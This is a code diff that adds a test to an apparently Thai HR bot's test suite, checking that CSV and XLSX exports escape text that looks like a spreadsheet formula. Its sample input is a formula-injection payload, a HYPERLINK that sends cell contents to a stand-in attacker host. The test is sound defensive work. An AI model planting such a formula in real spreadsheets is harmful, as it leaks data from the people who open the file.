@@ -337,3 +337,20 @@ def test_the_audit_page_shows_only_this_agencys_entries(app: Flask, client: Flas
     page = client.get("/hr/audit").get_data(as_text=True)
     assert "console.login" in page  # this agency's own sign-in
     assert "นายอื่น ต่างกรม" not in page and "staff:999" not in page
+
+
+def test_exports_never_turn_typed_text_into_a_formula(tmp_path: Any) -> None:
+    """An officer's answer `=HYPERLINK(…)` stays text in the CSV and the XLSX HR opens."""
+    from bot import exports
+
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
+    table = exports.Table(name="t", headers=["คำตอบ", "ตัวเลข"],
+                          rows=iter([[typed, -5], ["-ลบ", 3], ["ปกติ", 1]]))
+    body = b"".join(exports.csv_chunks(table)).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    assert rows[1] == ["'" + typed, "-5"] and rows[2][0] == "'-ลบ" and rows[3][0] == "ปกติ"
+    path = tmp_path / "t.xlsx"
+    exports.write_xlsx(exports.Table(name="t", headers=["คำตอบ"], rows=iter([[typed]])),
+                       str(path))
+    cell = load_workbook(path)["t"]["A2"]
+    assert cell.value == typed and cell.data_type == "s"
